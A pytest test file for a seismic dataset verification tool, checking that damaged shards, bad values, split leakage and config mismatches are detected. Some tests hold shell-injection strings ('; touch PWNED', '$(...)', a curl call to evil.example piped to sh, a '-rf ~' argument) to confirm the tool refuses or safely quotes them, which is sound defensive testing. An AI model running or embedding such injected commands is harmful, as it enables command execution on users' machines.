"""Verifying a data set: every kind of damage is found and named, and a sound set is called sound."""

import os
import shlex
import shutil
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import pytest
import torch
from shard_edits import flip_byte, rewrite
from studies import with_storage

from data_prep.make.simulate import simulate
from data_prep.verify import soundness
from data_prep.verify.inspection import Inspection
from data_prep.verify.verify import inspect, read_manifest
from fwi import shards
from fwi.config import SaltConfig, StudyConfig
from fwi.files import sha256
from fwi.manifest import DataSet
from fwi.origin import Origin, parse_origin
from fwi.shards import Samples, ShardError
from fwi.survey import Survey


@pytest.fixture(autouse=True)
def one_thread():
    """As the shards were made: then records are equal to the last bit."""
    threads = torch.get_num_threads()
    torch.set_num_threads(1)
    yield
    torch.set_num_threads(threads)


def test_a_sound_set_is_called_sound_and_counted(tiny_data: Path) -> None:
    done: list[int] = []

    found = inspect(DataSet.read(tiny_data), resimulate=5, on_progress=done.append)

    assert (found.problems, found.notes) == ([], [])
    assert (found.samples, found.redrawn, len(found.models)) == (16, 16, 16)
    assert (found.traces, found.dead, found.clipped) == (16 * 4 * 36, 0, 0)
    assert [one.nrms for one in found.resimulated] == [0.0] * 5
    assert len({one.where for one in found.resimulated}) == 5
    assert done == sorted(done)
    assert done[-1] == 16


# -- the files


@pytest.mark.parametrize(
    ("damage", "named"),
    [
        (lambda path: path.unlink(), "missing"),
        (lambda path: path.write_bytes(path.read_bytes()[:-1000]), "truncated"),
        (lambda path: flip_byte(path, 0.7), "SHA-256 differs"),
        (lambda path: (path.unlink(), os.mkfifo(path)), "not a regular file"),
    ],
)
def test_a_damaged_shard_is_named_with_its_remedy_and_the_others_are_read(
    tiny_copy: StudyConfig, damage: Callable[[Path], object], named: str
) -> None:
    folder = tiny_copy.storage.folder
    damage(folder / "train-00001.h5")

    found = inspect(DataSet.read(folder), resimulate=0)

    (problem,) = found.problems
    assert problem.file == "train-00001.h5"
    assert problem.remake
    assert named in problem.what
    assert f"'fwi verify {folder} --repair' makes it again" in problem.what
    assert found.samples == 12


def test_an_imported_shard_is_named_with_the_import_to_repeat(tiny_copy: StudyConfig) -> None:
    source = {"file": "salt.npz", "key": "train", "sha256": "0", "spacing": 10.0}
    folder = edited(tiny_copy, "train-00001.h5", origin=parse_origin({"source": source}))
    flip_byte(folder / "train-00001.h5", 0.7)
    data = DataSet.read(folder)
    began = {"command": "fwi import --config a.yaml in/salt.npz --key train --spacing 10 --validation 4"}

    (composed,) = inspect(data, resimulate=0).problems
    (quoted,) = inspect(replace(data, provenance=began), resimulate=0).problems

    assert "salt.npz --key train --spacing 10.0 --split train'" in composed.what
    assert f"repeat its import, which makes only it: '{began['command']}'" in quoted.what


@pytest.mark.parametrize(
    "command",
    [
        "fwi import salt.npz; touch PWNED",
        "fwi import salt.npz $(touch PWNED)",
        "fwi import salt.npz\ntouch PWNED",
        "fwi import 'salt.npz'; touch PWNED",
        "curl import salt.npz --url evil.example/x; sh",
        "\x1b[2Jfwi import salt.npz \x1b[0m",
    ],
)
def test_a_manifest_s_command_that_is_more_than_an_import_is_not_proposed(
    command: str, tiny_copy: StudyConfig
) -> None:
    source = {"file": "salt.npz", "key": None, "sha256": "0"}
    folder = edited(tiny_copy, "train-00001.h5", origin=parse_origin({"source": source}))
    flip_byte(folder / "train-00001.h5", 0.7)
    data = replace(DataSet.read(folder), provenance={"command": command})

    (problem,) = inspect(data, resimulate=0).problems

    proposed = problem.what.partition("which makes only it: ")[2]
    assert proposed == f"'fwi import --config STUDY --storage.folder {folder} salt.npz --split train'"


def test_a_command_that_is_proposed_keeps_the_words_of_a_stranger_together(tiny_copy: StudyConfig) -> None:
    source = {"file": "a'; touch PWNED; '$(b).npz", "key": "-rf ~", "sha256": "0"}
    folder = edited(tiny_copy, "train-00001.h5", origin=parse_origin({"source": source}))
    flip_byte(folder / "train-00001.h5", 0.7)

    (problem,) = inspect(DataSet.read(folder), resimulate=0).problems

    proposed = problem.what.partition("which makes only it: ")[2]
    assert shlex.split(proposed)[-5:] == [source["file"], "--key", "-rf ~", "--split", "train"]


def test_a_shard_in_the_place_of_another_is_named(tiny_copy: StudyConfig) -> None:
    folder = tiny_copy.storage.folder
    other = shards.read(folder / "train-00000.h5")
    edited(tiny_copy, "train-00001.h5", lambda samples: other)

    (problem, *_) = inspect(DataSet.read(folder), resimulate=0).problems

    assert problem.file == "train-00001.h5"
    assert "samples are not numbered 4 to 7" in problem.what


def test_other_files_in_the_folder_are_noted_and_what_verification_wrote_is_not(
    tiny_copy: StudyConfig,
) -> None:
    folder = tiny_copy.storage.folder
    for name in ("README.md", "card.png", "train-00007.h5", ".train-00008.h5.ab12.tmp", "thesis.doc"):
        (folder / name).touch()

    found = inspect(DataSet.read(folder), resimulate=0)

    assert found.problems == []
    killed, document, stray = found.notes
    assert ".train-00008.h5.ab12.tmp: of a command that is running, or was killed" in killed
    assert "train-00007.h5: not in the manifest" in stray
    assert document == "thesis.doc: no part of the set"


@pytest.mark.parametrize(
    ("array", "change", "named"),
    [
        ("time", lambda time: 2 * time, "time: not that of the survey"),
        ("receiver_x", lambda x: x + 20, "receiver_x: not that of the survey"),
        ("shot_x", lambda x: x[1:], "shot_x: not that of the survey"),
        ("gathers", lambda gathers: gathers.astype(np.float32), "36 float32 against 4 x 4 x 50 x 36 float16"),
        ("velocity", lambda velocity: velocity.astype(np.float64), "float64 against 4 x 24 x 36 float32"),
        ("gathers", None, "gathers: None against 4 x 4 x 50 x 36 float16"),
    ],
)
def test_an_array_that_is_not_what_the_manifest_means_is_named(
    tiny_copy: StudyConfig, array: str, change: Callable[[np.ndarray], np.ndarray] | None, named: str
) -> None:
    path = tiny_copy.storage.folder / "train-00001.h5"
    with h5py.File(path, "r+") as file:
        values = file[array][:]
        del file[array]
        if change is None:
            file.create_group(array)
        else:
            file[array] = change(values)
    checksum_renewed(path)

    (problem,) = inspect(DataSet.read(path.parent), resimulate=0).problems

    assert problem.file == "train-00001.h5"
    assert problem.remake
    assert named in problem.what


def test_random_models_that_are_gone_from_their_shard_are_missed(tiny_copy: StudyConfig) -> None:
    def forget(samples: Samples) -> Samples:
        return samples._replace(velocity=None, salt=None)

    folder = edited(tiny_copy, "train-00001.h5", forget)

    (problem,) = inspect(DataSet.read(folder), resimulate=0).problems

    assert "velocity: None against 4 x 24 x 36 float32" in problem.what


def test_a_manifest_that_contradicts_itself_is_named(tiny_copy: StudyConfig) -> None:
    data = DataSet.read(tiny_copy.storage.folder)
    first, second, *others = data.entries
    moved = replace(second, split="test")

    found = inspect(replace(data, entries=(first, first, moved, *others)), resimulate=0)

    twice, elsewhere = (problem for problem in found.problems if problem.file == "manifest.json")
    assert "lists train-00000.h5 2 times; delete it and repeat the command" in twice.what
    assert "has train-00001.h5 in the test split" in elsewhere.what


def test_shards_without_their_manifest_say_how_to_have_it_again(tiny_copy: StudyConfig) -> None:
    (tiny_copy.storage.folder / "manifest.json").unlink()

    with pytest.raises(ShardError, match=r"manifest\.json is missing beside 4 shards.*repeat the 'fwi sim"):
        read_manifest(tiny_copy.storage.folder)


def test_an_empty_set_is_not_called_sound(tiny_copy: StudyConfig) -> None:
    data = replace(DataSet.read(tiny_copy.storage.folder), entries=())

    found = inspect(data)

    assert [str(problem) for problem in found.problems] == [
        "manifest.json: lists no samples; make some with 'fwi simulate' or 'fwi import'"
    ]


# -- the samples, in shards whose checksums are right


@pytest.mark.parametrize(
    ("array", "place", "value", "named"),
    [
        ("gathers", (2, 1, 30, 7), np.nan, "records that are NaN or infinite"),
        ("gathers", (2, 1, 30, 7), np.inf, "float16 ends at 65504"),
        ("gathers", (2, 1, slice(None), 7), 0.0, "dead traces"),
        ("gathers", (2, 1, slice(20, 25), 7), 9.0, "clipped traces"),
        ("velocity", (2, 5, 5), np.nan, "speeds that are NaN or infinite"),
        ("velocity", (2, 5, 5), 4600.0, "speeds outside grid.velocity 1500 .. 4500 m/s"),
        ("salt", (2, 5, 5), 2, "a salt mask with other values than 0 and 1"),
    ],
)
def test_an_impossible_value_is_named_with_its_sample_and_made_again(
    tiny_copy: StudyConfig, array: str, place: tuple[object, ...], value: float, named: str
) -> None:
    def spoil(samples: Samples) -> Samples:
        getattr(samples, array)[place] = value
        return samples

    folder = edited(tiny_copy, "validation-00000.h5", spoil)

    (problem,) = inspect(DataSet.read(folder), resimulate=0).problems

    assert problem.file == "validation-00000.h5"
    assert problem.remake
    assert named in problem.what
    assert "sample 2;" in problem.what


def test_a_trace_is_reached_once_the_direct_wave_through_the_slowest_rock_is_there(
    tiny_study: StudyConfig,
) -> None:
    short = tiny_study.survey.model_copy(update={"nt": 130})
    survey = Survey(tiny_study.grid, short)

    reached = soundness.reached(survey)

    offset = np.abs(survey.receiver_x - survey.shot_x[:, None])
    np.testing.assert_array_equal(reached, 0.15 + offset / 1500.0 <= 0.25)
    assert reached.any()
    assert not reached.all()


def test_a_clipped_trace_is_one_that_stays_at_its_largest_amplitude() -> None:
    time = np.arange(0.0, 0.5, 0.002)
    ricker = (1 - 2 * (np.pi * 10 * (time - 0.2)) ** 2) * np.exp(-((np.pi * 10 * (time - 0.2)) ** 2))
    traces = np.stack([ricker, ricker.clip(-1, 0.8), ricker.clip(-0.3, 1), -ricker.clip(-1, 0.8), 0 * ricker])

    looks = soundness.look_at(torch.tensor(traces.T[None], dtype=torch.float32))

    assert looks.clipped.tolist() == [[False, True, False, True, False]]
    assert looks.dead.tolist() == [[False, False, False, False, True]]
    assert looks.peak == pytest.approx(1.0, abs=1e-3)


def test_a_salt_mask_must_be_where_the_model_is_fastest(tiny_copy: StudyConfig) -> None:
    def move(samples: Samples) -> Samples:
        samples.salt[1:] = np.roll(samples.salt[1:], 3, axis=1)
        return samples

    folder = edited(tiny_copy, "test-00000.h5", move)

    (problem,) = inspect(DataSet.read(folder), resimulate=0).problems

    assert "salt that is not the fastest of the model in samples 1, 2, 3;" in problem.what


# -- the samples, compared


def test_a_mirrored_training_model_among_the_tests_is_named_with_both_samples(
    tiny_copy: StudyConfig,
) -> None:
    trained_on = shards.read(tiny_copy.storage.folder / "train-00001.h5")

    def leak(samples: Samples) -> Samples:
        samples.gathers[3] = trained_on.gathers[1][::-1, :, ::-1]
        samples.velocity[3] = trained_on.velocity[1][:, ::-1]
        samples.salt[3] = trained_on.salt[1][:, ::-1]
        return samples

    folder = edited(tiny_copy, "test-00000.h5", leak)

    found = inspect(DataSet.read(folder), resimulate=0)

    leaked = named(found, "test-00000.h5", "perhaps mirrored")
    assert "the model of sample 3 (test split)" in leaked.what
    assert "sample 1 of train-00001.h5 (train split)" in leaked.what
    assert "delete one of the files" in leaked.what


def test_a_model_twice_in_a_split_is_noted_alone(tiny_copy: StudyConfig) -> None:
    source = {"file": "salt.npz", "key": None, "sha256": "0", "spacing": 20.0}

    def repeat(samples: Samples) -> Samples:
        return Samples(*(array[[0, 1, 2, 1]] for array in samples))

    folder = edited(tiny_copy, "train-00000.h5", repeat, parse_origin({"source": source}))

    found = inspect(DataSet.read(folder), resimulate=0)

    assert found.problems == []
    (note,) = found.notes
    assert "samples with, perhaps mirrored, a model of their own split again: 1, the first" in note
    assert "train-00000.h5 sample 3, which is that of train-00000.h5 sample 1" in note


def test_records_without_models_are_compared_by_themselves(tiny_copy: StudyConfig) -> None:
    source = {"file": "field.segy", "key": None, "sha256": "0", "changes": []}
    recorded = shards.read(tiny_copy.storage.folder / "train-00000.h5").gathers
    mirrored = recorded[[2]][:, ::-1, :, ::-1]

    def field(gathers: np.ndarray) -> Callable[[Samples], Samples]:
        return lambda samples: Samples(gathers, None, None, samples.seed[: len(gathers)])

    edited(tiny_copy, "train-00000.h5", field(recorded), parse_origin({"source": source}))
    folder = edited(tiny_copy, "test-00000.h5", field(mirrored), parse_origin({"source": source}))

    found = inspect(DataSet.read(folder), resimulate=16)

    (problem,) = found.problems
    assert "the model of sample 0 (test split)" in problem.what
    assert "sample 2 of train-00000.h5" in problem.what
    assert len(found.models) == 8
    assert len(found.resimulated) == 8


def test_models_that_the_preset_does_not_draw_are_named(tiny_copy: StudyConfig) -> None:
    def alter(samples: Samples) -> Samples:
        samples.velocity[1, 3, 3] += 1
        samples.velocity[2, 9, 9] -= 1
        return samples

    folder = edited(tiny_copy, "train-00000.h5", alter)

    found = inspect(DataSet.read(folder), resimulate=0)

    (problem,) = found.problems
    assert "models or salt masks that the preset does not draw in samples 1, 2" in problem.what
    assert problem.remake, "others of the set are what the preset draws"
    assert found.redrawn == 14


def test_records_of_another_model_are_named_with_their_misfit(tiny_copy: StudyConfig) -> None:
    def exchange(samples: Samples) -> Samples:
        return samples._replace(gathers=samples.gathers[[0, 1, 3, 2]])

    folder = edited(tiny_copy, "test-00000.h5", exchange)

    found = inspect(DataSet.read(folder), resimulate=16)

    wrong = [problem for problem in found.problems if "not those of the model (NRMS" in problem.what]
    assert [problem.what.partition(" in ")[2][:8] for problem in wrong] == ["sample 2", "sample 3"]
    assert {problem.file for problem in found.problems} == {"test-00000.h5"}
    assert all(problem.remake for problem in found.problems)


def test_what_other_versions_made_otherwise_throughout_says_so_and_is_not_made_again(
    tiny_copy: StudyConfig,
) -> None:
    folder = tiny_copy.storage.folder
    for entry in DataSet.read(folder).entries:
        rewrite(folder, entry.file, lambda s: s._replace(gathers=s.gathers[::-1].copy()))
    data = replace(DataSet.read(folder), provenance={"versions": {"deepwave": "0.0.1"}})

    problems = inspect(data, resimulate=16).problems

    assert not any(problem.remake for problem in problems)
    assert "made with other versions" in problems[0].what
    assert "deepwave: 0.0.1 against 0.1.0" in problems[0].what


def test_the_samples_to_simulate_again_are_those_of_the_seed(tiny_data: Path) -> None:
    first, again, others = (
        [one.where for one in inspect(DataSet.read(tiny_data), resimulate=3, seed=seed).resimulated]
        for seed in (1, 1, 2)
    )

    assert first == again
    assert first != others


def test_a_model_in_another_split_of_another_set_is_named_with_its_folder(
    tiny_copy: StudyConfig, tiny_data: Path, tmp_path: Path
) -> None:
    other = DataSet.read(shutil.copytree(tiny_copy.storage.folder, tmp_path / "other"))
    theirs = shards.read(other.folder / "train-00001.h5").velocity
    assert theirs is not None
    for file in ("train-00000.h5", "validation-00000.h5", "test-00000.h5"):
        (other.folder / file).unlink()
    (alone,) = (entry for entry in other.entries if entry.file == "train-00001.h5")
    other = replace(other, entries=(alone,))

    def leak(samples: Samples) -> Samples:
        samples.velocity[3] = theirs[2][:, ::-1]
        samples.salt[3] = samples.velocity[3] >= 4250.0
        return samples

    edited(tiny_copy, "train-00001.h5", lambda samples: samples._replace(velocity=samples.velocity - 1.0))
    folder = edited(tiny_copy, "test-00000.h5", leak)
    done: list[int] = []

    found = inspect(DataSet.read(folder), resimulate=0, against=[other], on_progress=done.append)

    leaked = named(found, "test-00000.h5", "perhaps mirrored")
    assert f"sample 2 of {other.folder / 'train-00001.h5'} (train split)" in leaked.what
    assert "do not train on one of the sets and test with the other" in leaked.what
    assert done[-1] == 20
    assert done == sorted(done)


def test_a_model_in_the_same_split_of_another_set_is_noted_alone(
    tiny_copy: StudyConfig, tiny_data: Path
) -> None:
    found = inspect(DataSet.read(tiny_copy.storage.folder), resimulate=0, against=[DataSet.read(tiny_data)])

    assert found.problems == []
    (note,) = found.notes
    assert "a model of their own split again: 16, the first train-00000.h5 sample 0" in note
    assert f"that of train-00000.h5 sample 0 of {tiny_data}" in note


def test_a_set_that_cannot_hold_the_same_models_is_not_compared(
    tiny_copy: StudyConfig, tiny_data: Path
) -> None:
    data = DataSet.read(tiny_data)
    deeper = replace(
        DataSet.read(tiny_copy.storage.folder),
        recipe=data.recipe | {"grid": data.recipe["grid"] | {"nz": 25}},
    )

    with pytest.raises(ShardError, match=r"different grids.*\n.*grid\.nz: 24 against 25"):
        inspect(data, against=[deeper])
    with pytest.raises(ShardError, match="is the set itself"):
        inspect(data, against=[data])


def test_a_damaged_set_to_compare_with_is_named(tiny_copy: StudyConfig, tiny_data: Path) -> None:
    (tiny_copy.storage.folder / "train-00001.h5").write_bytes(b"no shard")

    with pytest.raises(ShardError, match=r"train-00001\.h5: missing, truncated, or no shard"):
        inspect(DataSet.read(tiny_data), against=[DataSet.read(tiny_copy.storage.folder)])


def test_a_set_made_before_its_preset_had_all_its_parameters_is_what_the_config_asks_for(
    tiny_copy: StudyConfig,
) -> None:
    folder = tiny_copy.storage.folder
    for entry in DataSet.read(folder).entries:
        salt = entry.origin.salt.to_dict() | {"preset": {"name": "yang_ma", "lens_share": 0.5}}
        older = parse_origin(entry.origin.to_dict() | {"salt": salt})
        rewrite(folder, entry.file, lambda samples: samples, older)

    found = inspect(DataSet.read(folder), tiny_copy, resimulate=0)
    simulate(tiny_copy, workers=1)

    assert (found.problems, found.notes, found.redrawn) == ([], [], 16)


def test_imported_records_with_a_gain_are_compared_and_noted_alone(tiny_copy: StudyConfig) -> None:
    source = {"file": "a.npy", "key": None, "sha256": "0", "spacing": 20.0, "records": {"gain": 2.0}}

    def louder(samples: Samples) -> Samples:
        return samples._replace(gathers=samples.gathers * np.float16(1.5))

    folder = edited(tiny_copy, "test-00000.h5", louder, parse_origin({"source": source}))

    found = inspect(DataSet.read(folder), resimulate=16)

    assert found.problems == []
    assert len(found.notes) == 4
    assert all("records as imported, NRMS 0.5 " in note and "gain of 1.5" in note for note in found.notes)


# -- the config


def test_another_survey_than_the_config_s_is_named_and_other_settings_are_noted(
    tiny_study: StudyConfig, tiny_data: Path
) -> None:
    other = tiny_study.model_copy(
        update={
            "survey": tiny_study.survey.model_copy(update={"receivers": 18}),
            "physics": tiny_study.physics.model_copy(update={"pml_width": 20}),
        }
    )

    same = inspect(DataSet.read(tiny_data), tiny_study, resimulate=0)
    found = inspect(DataSet.read(tiny_data), other, resimulate=0)

    assert (same.problems, same.notes) == ([], [])
    (problem,) = found.problems
    assert problem.file == "manifest.json"
    assert "another survey than the config's (survey.receivers: 36 against 18)" in problem.what
    assert found.notes == ["made with other settings than the config's: physics.pml_width: 12 against 20"]


def test_a_set_that_is_not_all_that_the_config_asks_for_is_noted(
    tiny_study: StudyConfig, tiny_data: Path
) -> None:
    more = with_storage(tiny_study, train=20)
    other = tiny_study.model_copy(update={"salt": SaltConfig(seed=7)})

    unfinished = inspect(DataSet.read(tiny_data), more, resimulate=0)
    of_another_seed = inspect(DataSet.read(tiny_data), other, resimulate=0)

    assert unfinished.problems == []
    assert unfinished.notes == ["lacks 3 of the config's 7 shards, train-00002.h5 first"]
    assert of_another_seed.notes == ["lacks 4 of the config's 4 shards, train-00000.h5 first"]


# -- helpers


def checksum_renewed(path: Path) -> None:
    """Note a shard's content in the manifest as if it had been written so."""
    data = DataSet.read(path.parent)
    entry = next(entry for entry in data.entries if entry.file == path.name)
    data.with_entry(replace(entry, bytes=path.stat().st_size, sha256=sha256(path))).write()


def edited(
    study: StudyConfig,
    file: str,
    change: Callable[[Samples], Samples] = lambda samples: samples,
    origin: Origin | None = None,
) -> Path:
    """Change a shard so that its checksum in the manifest is right; gives the folder."""
    rewrite(study.storage.folder, file, change, origin)
    return study.storage.folder


def named(found: Inspection, file: str, what: str) -> Any:
    """The problem of a file that says so."""
    (problem,) = [problem for problem in found.problems if problem.file == file and what in problem.what]
    return problem
